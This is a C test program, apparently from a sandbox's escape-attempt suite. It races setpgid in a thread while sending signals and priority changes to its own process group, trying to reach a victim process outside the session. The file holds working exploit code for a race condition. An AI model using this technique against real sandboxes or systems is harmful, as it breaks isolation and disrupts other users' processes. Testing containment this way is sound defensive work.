/* Escape attempt: act on a process group outside the session through a call that names
 * the caller's own group implicitly (kill(0, sig), setpriority(PRIO_PGRP, 0),
 * ioprio_set(IOPRIO_WHO_PGRP, 0)). The caller leads a group of its own, which the decision
 * admits; a second thread moves the process back and forth into the group of
 * ATTACK_GROUP_VICTIM (a process outside the session, in its own group of the same
 * terminal session, started by the runner) with setpgid, which is not decided, so that the
 * kernel, looking the group up again when it runs the call, would reach the victim. Where
 * joining that group is refused, it races into the group the command started in, which
 * the runner (ATTACK_GROUP=1) gives a victim of its own too. The runner checks both live
 * and are scheduled as before. */
#include "attack.h"
#include <pthread.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/syscall.h>

static pid_t victim_group;
static volatile int stop;

static void* flip(void* arg) {
  (void)arg;
  while (!stop) {
    setpgid(0, victim_group);
    setpgid(0, 0);
  }
  return NULL;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  pid_t v = (pid_t)atoi(env_or("ATTACK_GROUP_VICTIM", "0"));
  if (v <= 0 || getpgid(v) != v) return 2; /* the runner makes it lead a group of its own */
  /* The victim's group, when the session may join it; else the group the command started
   * in, which it may join back and which the runner gives a victim too. */
  pid_t home = getpgrp();
  victim_group = setpgid(0, v) == 0 ? v : home;
  if (victim_group == home)
    printf("proc_group_race: joining the victim's group: %s; racing into our first group\n", strerror(errno));
  if (setpgid(0, 0) != 0) return 2;
  signal(SIGTERM, SIG_IGN); /* what reaches our own group must not end us */
  pthread_t t;
  pthread_create(&t, NULL, flip, NULL);
  long sent = 0;
  for (int phase = 0; phase < 3; ++phase) {
    double end = now() + 1.0;
    while (now() < end) {
      long r;
      if (phase == 0) r = kill(0, SIGTERM);
      else if (phase == 1) r = setpriority(PRIO_PGRP, 0, 19);
      else r = syscall(SYS_ioprio_set, 2 /* IOPRIO_WHO_PGRP */, 0, 3 << 13 /* IOPRIO_CLASS_IDLE */);
      if (r == 0) ++sent;
    }
  }
  stop = 1;
  pthread_join(t, NULL);
  setpgid(0, 0);
  int worked = getpriority(PRIO_PROCESS, (id_t)v) == 19 ||
               syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, v) == (3 << 13);
  printf("proc_group_race: %ld calls on our own group; the victim's scheduling %s\n", sent,
         worked ? "CHANGED" : "unchanged");
  return worked;
}
